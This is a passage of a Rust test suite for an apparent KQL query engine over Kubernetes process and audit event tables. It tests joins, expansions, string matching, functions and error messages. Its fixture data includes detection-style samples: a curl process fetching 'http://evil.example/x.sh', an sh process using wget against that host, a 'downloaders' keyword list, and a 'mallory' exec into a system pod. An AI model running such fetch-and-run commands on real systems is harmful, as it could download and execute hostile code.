    let processes = "CloudProcessEvents | where ProcessName in ('bash', 'sh') | project KubernetesPodName, ProcessName";
    assert_eq!(
        sorted(run(&format!("{processes} | join kind=inner ({exec_users}) on KubernetesPodName")).await),
        table(&[
            &["KubernetesPodName", "ProcessName", "KubernetesPodName1", "UserName"],
            &["web-1", "bash", "web-1", "alice"],
        ])
    );
    assert_eq!(
        sorted(run(&format!("{processes} | join kind=leftouter ({exec_users} | project Pod = KubernetesPodName, UserName) on $left.KubernetesPodName == $right.Pod")).await),
        table(&[
            &["KubernetesPodName", "ProcessName", "Pod", "UserName"],
            &["web-1", "bash", "web-1", "alice"],
            &["web-2", "sh", "null", "null"],
        ])
    );
    assert_eq!(
        run(&format!("{processes} | join kind=leftanti ({exec_users}) on KubernetesPodName")).await,
        table(&[&["KubernetesPodName", "ProcessName"], &["web-2", "sh"]])
    );
    assert_eq!(
        run(&format!("{processes} | join kind=leftsemi ({exec_users}) on KubernetesPodName")).await,
        table(&[&["KubernetesPodName", "ProcessName"], &["web-1", "bash"]])
    );
    let exec_users_first = format!("{exec_users} | join kind=rightanti ({processes}) on KubernetesPodName");
    assert_eq!(run(&exec_users_first).await, table(&[&["KubernetesPodName", "ProcessName"], &["web-2", "sh"]]));
    let exec_users_first = format!("{exec_users} | join kind=rightsemi ({processes}) on KubernetesPodName");
    assert_eq!(run(&exec_users_first).await, table(&[&["KubernetesPodName", "ProcessName"], &["web-1", "bash"]]));
    // innerunique (the default) keeps one left row per key: web-1 ran five processes this hour.
    let web1 =
        "CloudProcessEvents | where Timestamp > ago(1h) and KubernetesPodName == 'web-1' | project KubernetesPodName";
    let rows = run(&format!("{web1} | join ({exec_users}) on KubernetesPodName")).await;
    assert_eq!(rows, table(&[&["KubernetesPodName", "KubernetesPodName1", "UserName"], &["web-1", "web-1", "alice"]]));
    let rows = run(&format!("{web1} | join kind=inner ({exec_users}) on KubernetesPodName")).await;
    assert_eq!(rows.len(), 1 + 5);
}

#[tokio::test]
async fn outer_joins_keep_the_unmatched_rows_of_their_sides() {
    let exec_users =
        "CloudAuditEvents | where Subresource == 'exec' | project KubernetesPodName = ObjectName, UserName";
    let processes = "CloudProcessEvents | where ProcessName in ('bash', 'sh') | project KubernetesPodName, ProcessName";
    let header: &[&str] = &["KubernetesPodName", "ProcessName", "KubernetesPodName1", "UserName"];
    assert_eq!(
        sorted(run(&format!("{processes} | join kind=rightouter ({exec_users}) on KubernetesPodName")).await),
        table(&[header, &["null", "null", "coredns-abc", "mallory"], &["web-1", "bash", "web-1", "alice"]])
    );
    assert_eq!(
        sorted(run(&format!("{processes} | join kind=fullouter ({exec_users}) on KubernetesPodName")).await),
        table(&[
            header,
            &["null", "null", "coredns-abc", "mallory"],
            &["web-1", "bash", "web-1", "alice"],
            &["web-2", "sh", "null", "null"],
        ])
    );
}

#[tokio::test]
async fn other_spellings_and_aggregations() {
    assert_eq!(
        run("CloudProcessEvents | filter Timestamp > ago(7d)
             | summarize Processes = array_length(make_list(ProcessName)), Pods = dcountif(KubernetesPodName, ExecSession),
                         Curls = sumif(ProcessId, ProcessName == 'curl') by Namespace = KubernetesNamespace
             | sort by Namespace asc")
        .await,
        table(&[
            &["Namespace", "Processes", "Pods", "Curls"],
            &["default", "10", "2", "6325"],
            &["kube-system", "1", "0", "null"],
        ])
    );
    assert_eq!(
        run("CloudProcessEvents | where ProcessName == 'bash'
             | project A = iif(ExecSession, 'yes', 'no'), B = todynamic('[1, 2]')[1], C = toreal('2.5'),
                       D = toboolean('false'), E = floor(ProcessId, 100), F = ago(100ms) > ago(30m) and ago(10s) > ago(1.5h)")
        .await,
        table(&[&["A", "B", "C", "D", "E", "F"], &["no", "2", "2.5", "false", "1000", "true"]])
    );
}

#[tokio::test]
async fn mv_expand_expands_string_lists_and_dynamic_arrays() {
    assert_eq!(
        run("CloudProcessEvents | where ProcessName == 'curl' and Timestamp > ago(1h)
             | mv-expand ProcessArgs | project ProcessName, ProcessArgs")
        .await,
        table(&[&["ProcessName", "ProcessArgs"], &["curl", "-s"], &["curl", "http://evil.example/x.sh"]])
    );
    assert_eq!(
        sorted(
            run(
                "CloudAuditEvents | where UserName == 'bob' | mv-expand Group = UserGroups | summarize count() by Group"
            )
            .await
        ),
        table(&[&["Group", "count_"], &["developers", "2"], &["system:authenticated", "2"]])
    );
    // Each element is dynamic: a string loses its JSON quotes when shown, an object is JSON.
    assert_eq!(
        sorted(
            run("CloudAuditEvents | where AuditId == 'a9' | mv-expand Group = RawEventData.user.groups
                    | extend Kind = iff(Group has 'serviceaccounts', 'sa', 'other') | project Group, Kind")
            .await
        ),
        table(&[
            &["Group", "Kind"],
            &["system:authenticated", "other"],
            &["system:serviceaccounts", "sa"],
            &["system:serviceaccounts:kube-system", "sa"],
        ])
    );
    assert_eq!(
        run("CloudAuditEvents | where AuditId == 'a7' | mv-expand Subject = RawEventData.RequestObject.subjects | project Subject").await,
        table(&[&["Subject"], &[r#"{"kind":"Group","name":"developers"}"#]])
    );
    // No array (the exec events have no request object), no rows.
    assert_eq!(
        run("CloudAuditEvents | where AuditId == 'a4' | mv-expand C = RawEventData.RequestObject.spec.containers")
            .await
            .len(),
        1
    );
}

#[tokio::test]
async fn lets_name_scalars_lists_and_queries() {
    assert_eq!(
        sorted(
            run("let downloaders = dynamic(['curl', 'wget']);
                 let since = 1h;
                 let recent = CloudProcessEvents | where Timestamp > ago(since);
                 recent | where ProcessCommandLine has_any (downloaders) or ProcessName in (downloaders) | project ProcessName")
            .await
        ),
        table(&[&["ProcessName"], &["Curl"], &["curl"], &["sh"]])
    );
    assert_eq!(
        run("let Processes = CloudProcessEvents; let pod = 'coredns-abc'; Processes | where KubernetesPodName == pod | count").await,
        table(&[&["Count"], &["1"]])
    );
}

// ---------------------------------------------------------------------------------------------
// Expressions.

/// The process names a `where` keeps, over the processes of the last hour.
async fn names_where(predicate: &str) -> Vec<String> {
    let kql = format!(
        "CloudProcessEvents | where Timestamp > ago(1h) and ProcessName != 'nginx' | where {predicate} | project ProcessName"
    );
    let mut names: Vec<String> = run(&kql).await[1..].iter().map(|row| row[0].clone()).collect();
    names.sort();
    names
}

#[tokio::test]
async fn has_matches_whole_terms_and_contains_any_text() {
    let cases: &[(&str, &[&str])] = &[
        ("ProcessCommandLine has 'bash'", &["bash"]),
        ("ProcessCommandLine has 'BASH'", &["bash"]),
        ("ProcessCommandLine has_cs 'BASH'", &[]),
        ("ProcessCommandLine !has 'bash'", &["Curl", "bashful", "curl", "sh"]),
        ("ProcessCommandLine has 'evil.example'", &["curl", "sh"]),
        ("ProcessCommandLine has 'evil'", &["curl", "sh"]),
        ("ProcessCommandLine has 'vil'", &[]),
        ("ProcessCommandLine contains 'bash'", &["bash", "bashful"]),
        ("ProcessCommandLine contains 'VIL.EX'", &["curl", "sh"]),
        ("ProcessCommandLine contains_cs 'VIL'", &[]),
        ("ProcessCommandLine !contains 'bash'", &["Curl", "curl", "sh"]),
        ("ProcessCommandLine startswith 'CURL'", &["Curl", "curl"]),
        ("ProcessCommandLine startswith_cs 'curl'", &["curl"]),
        ("ProcessCommandLine endswith '.SH'", &["curl"]),
        ("ProcessCommandLine endswith_cs '.SH'", &[]),
        ("ProcessCommandLine !endswith 'id'", &["Curl", "bashful", "curl", "sh"]),
        ("ProcessCommandLine has_all ('sh', 'wget')", &["sh"]),
        ("ProcessCommandLine has_any ('version', 'id')", &["Curl", "bash"]),
        ("ProcessCommandLine matches regex @'^\\w+ -c'", &["bash", "sh"]),
        ("ProcessArgs has '-c'", &["bash", "sh"]),
    ];
    for (predicate, expected) in cases {
        assert_eq!(names_where(predicate).await, *expected, "{predicate}");
    }
}

#[tokio::test]
async fn equality_is_case_sensitive_and_tilde_operators_are_not() {
    let cases: &[(&str, &[&str])] = &[
        ("ProcessName == 'curl'", &["curl"]),
        ("ProcessName =~ 'CURL'", &["Curl", "curl"]),
        ("ProcessName !~ 'curl'", &["bash", "bashful", "sh"]),
        ("ProcessName in ('curl', 'sh')", &["curl", "sh"]),
        ("ProcessName !in ('curl', 'sh')", &["Curl", "bash", "bashful"]),
        ("ProcessName in~ ('CURL')", &["Curl", "curl"]),
        ("ProcessName !in~ ('CURL', 'bash', 'bashful')", &["sh"]),
        ("ProcessId between (1010 .. 1020)", &["bash", "bashful", "sh"]),
        ("ProcessId !between (1010 .. 1020)", &["Curl", "curl"]),
        ("ProcessId > 1015 and not(ProcessId >= 1040)", &["sh"]),
        ("ProcessId % 10 == 5 or ProcessId * 2 == 2080", &["Curl", "bashful", "curl"]),
        ("ExecSession", &["curl", "sh"]),
        ("KubernetesNamespace != 'default'", &["Curl"]),
    ];
    for (predicate, expected) in cases {
        assert_eq!(names_where(predicate).await, *expected, "{predicate}");
    }
}

#[tokio::test]
async fn absent_strings_are_empty_as_in_kql() {
    let exec = |predicate: &str| format!("CloudAuditEvents | where {predicate} | count");
    for (predicate, count) in [
        ("isnull(Subresource)", "7"),
        ("isnotnull(Subresource)", "2"),
        ("isempty(Subresource)", "7"),
        ("isnotempty(Subresource)", "2"),
        ("Subresource == ''", "7"),
        ("Subresource != ''", "2"),
        ("Subresource != 'exec'", "7"),
        ("Subresource !has 'exec'", "7"),
        ("Subresource !in ('exec')", "7"),
        ("isnull(RawEventData.requestObject)", "3"),
        ("isempty(RawEventData.ObjectRef.subresource)", "7"),
        ("isnotnull(RawEventData.ObjectRef)", "9"),
    ] {
        assert_eq!(run(&exec(predicate)).await[1], [count], "{predicate}");
    }
}

#[tokio::test]
async fn scalar_functions() {
    let kql = r#"CloudProcessEvents | where ProcessName == 'bash'
        | project Lower = tolower('AbC'), Upper = toupper(ProcessName), Length = strlen(ProcessCommandLine),
                  Text = tostring(ProcessId), Int = toint('42'), Long = tolong(ProcessId) + 1, Bad = tolong('x'),
                  Real = todouble('1.5'), Bool = tobool('true'), Joined = strcat(ProcessName, '-', ProcessId),
                  Iff = iff(ProcessId > 1000, 'big', 'small'),
                  Case = case(ProcessId < 1000, 'low', ProcessId < 2000, 'mid', 'high'),
                  Sub = substring(ProcessCommandLine, 5, 2), Replaced = replace_string(ProcessCommandLine, ' ', '_'),
                  First = coalesce(ProcessCurrentWorkingDirectory, 'unknown'), Args = array_length(ProcessArgs),
                  Has = set_has_element(ProcessArgs, 'id'), Arg0 = ProcessArgs[0], Args2 = strcat_array(ProcessArgs, '+'),
                  When = todatetime('2020-01-01T10:00:00Z') < now(), Epoch = datetime(1970-01-01) + 1d < ago(1d)"#;
    let rows = run(kql).await;
    let row: Vec<(&str, &str)> = rows[0].iter().map(String::as_str).zip(rows[1].iter().map(String::as_str)).collect();
    assert_eq!(
        row,
        [
            ("Lower", "abc"),
            ("Upper", "BASH"),
            ("Length", "10"),
            ("Text", "1010"),
            ("Int", "42"),
            ("Long", "1011"),
            ("Bad", "null"),
            ("Real", "1.5"),
            ("Bool", "true"),
            ("Joined", "bash-1010"),
            ("Iff", "big"),
            ("Case", "mid"),
            ("Sub", "-c"),
            ("Replaced", "bash_-c_id"),
            ("First", "unknown"),
            ("Args", "2"),
            ("Has", "true"),
            ("Arg0", "-c"),
            ("Args2", "-c+id"),
            ("When", "true"),
            ("Epoch", "true"),
        ]
    );
}

#[tokio::test]
async fn dynamic_paths_read_audit_events_with_defenders_or_kubernetes_keys() {
    let kql = r#"CloudAuditEvents | where AuditId == 'a1'
        | project Resource = RawEventData.ObjectRef.resource, Same = RawEventData.objectRef.resource,
                  Code = RawEventData.ResponseStatus.code, CodeIsNumber = RawEventData.ResponseStatus.code > 200,
                  Decision = RawEventData.Annotations["authorization.k8s.io/decision"],
                  FirstImage = RawEventData.RequestObject.spec.containers[0].image,
                  Containers = array_length(RawEventData.RequestObject.spec.containers),
                  Labels = RawEventData.RequestObject.metadata.labels,
                  Privileged = RawEventData.RequestObject.spec.containers[2].securityContext.privileged == true,
                  User = tostring(RawEventData["User"]["username"]),
                  Parsed = parse_json('{"a": {"b": [1, "two"]}}').a.b[1],
                  InList = RawEventData.User.username in ('alice', 'bob'), Groups = RawEventData.User.groups has_any ('developers')"#;
    let rows = run(kql).await;
    let row: Vec<(&str, &str)> = rows[0].iter().map(String::as_str).zip(rows[1].iter().map(String::as_str)).collect();
    assert_eq!(
        row,
        [
            ("Resource", "pods"),
            ("Same", "pods"),
            ("Code", "201"),
            ("CodeIsNumber", "true"),
            ("Decision", "allow"),
            ("FirstImage", "nginx:1.27"),
            ("Containers", "3"),
            ("Labels", r#"{"app":"web-1"}"#),
            ("Privileged", "true"),
            ("User", "alice"),
            ("Parsed", "two"),
            ("InList", "true"),
            ("Groups", "true"),
        ]
    );
    // A process event has no RawEventData; AdditionalFields keeps its keys as written.
    assert_eq!(
        run("CloudProcessEvents | where ProcessName == 'bash' | project Uid = AdditionalFields.uid + 1, Flag = tostring(AdditionalFields.flags[0])").await,
        table(&[&["Uid", "Flag"], &["1.0", "O_RDONLY"]])
    );
}

// ---------------------------------------------------------------------------------------------
// Errors.

#[test]
fn an_unknown_column_names_the_columns_there_are() {
    let failure = error("CloudAuditEvents | project Timestamp, IsAnonymousProxy");
    let KqlError::UnknownColumn { name, available, position } = &failure else { panic!("{failure}") };
    assert_eq!((name.as_str(), position.line, position.column), ("IsAnonymousProxy", 1, 39));
    assert!(available.contains(&"ClusterName".to_owned()) && available.contains(&"RawEventData".to_owned()));
    assert!(
        failure
            .to_string()
            .starts_with("1:39: unknown column `IsAnonymousProxy`; the columns here are Timestamp, ReportId,")
    );
    // Columns are tracked through the stages: a projected-away column is gone.
    let failure = error("CloudProcessEvents | project ProcessName | where ContainerName == 'x'");
    assert_eq!(failure.to_string(), "1:50: unknown column `ContainerName`; the columns here are ProcessName");
    let failure = error("CloudProcessEvents | project-away NoSuchColumn");
    assert!(matches!(failure, KqlError::UnknownColumn { .. }), "{failure}");
    let failure = error("CloudProcessEvents | summarize count() by NodeName | where ProcessName == 'x'");
    assert!(failure.to_string().contains("the columns here are NodeName, count_"), "{failure}");
}

#[test]
fn an_unknown_operator_names_its_position_and_the_supported_ones() {
    let failure = error("CloudProcessEvents\n| where ProcessName == 'sh'\n| make-series count() on Timestamp");
    assert!(
        failure
            .to_string()
            .starts_with("3:3: unknown tabular operator `make-series`; supported: where, filter, project,"),
        "{failure}"
    );
}

#[test]
fn an_unterminated_string_names_where_it_starts() {
    assert_eq!(
        error("CloudProcessEvents | where ProcessName == \"curl").to_string(),
        "1:43: unterminated string literal: close it with \""
    );
}

#[test]
fn an_unsupported_function_names_the_supported_ones() {
    let failure = error("CloudProcessEvents | extend X = base64_decode_tostring(ProcessName)");
    let message = failure.to_string();
    assert!(
        message.starts_with("1:33: unsupported function `base64_decode_tostring`; the functions are ago,"),
        "{message}"
    );
    assert!(message.contains("tostring") && message.contains("and in summarize arg_max, arg_min, avg"), "{message}");
}

#[test]
fn other_mistakes_are_named() {
    let cases = [
        ("Events | take 1", "1:1: unknown table `Events`; the tables are CloudProcessEvents, CloudAuditEvents,"),
        ("CloudProcessEvents | where count() > 1", "1:28: the aggregation count here is not supported"),
        ("CloudProcessEvents | project A = 1, A = 2", "1:37: the column `A` is named twice"),
        ("CloudProcessEvents | where ProcessName has ContainerName", "1:44: a `has` term that is not a string literal"),
        (
            "CloudProcessEvents | mv-expand ProcessName",
            "1:32: mv-expand expands a dynamic array or a string list, not string",
        ),
        ("CloudProcessEvents | where ProcessName.x == 1", "1:39: a property or index applies to a dynamic value"),
        (
            "CloudProcessEvents | summarize arg_max(Timestamp, *), count()",
            "1:32: arg_max or arg_min with other aggregations",
        ),
        ("CloudProcessEvents | where Timestamp > ago(1x)", "1:44: invalid timespan literal `1x`"),
        ("CloudProcessEvents | where Timestamp > datetime(2026-13-01)", "1:40: invalid datetime literal `2026-13-01`"),
        ("CloudProcessEvents | where strlen(ProcessName, 1) > 1", "1:28: strlen takes one string"),
        ("CloudProcessEvents | where ProcessName == 'a' ProcessId", "1:47: expected `|` and an operator"),
        ("CloudProcessEvents | join kind=sideways (CloudAuditEvents) on UserName", "1:32: expected a join kind"),
        ("CloudProcessEvents | where ProcessName + 1 > 2", "1:40: strings do not add up"),
    ];
    for (kql, start) in cases {
        let message = error(kql).to_string();
        assert!(message.starts_with(start), "{kql}\n  {message}");
    }
}
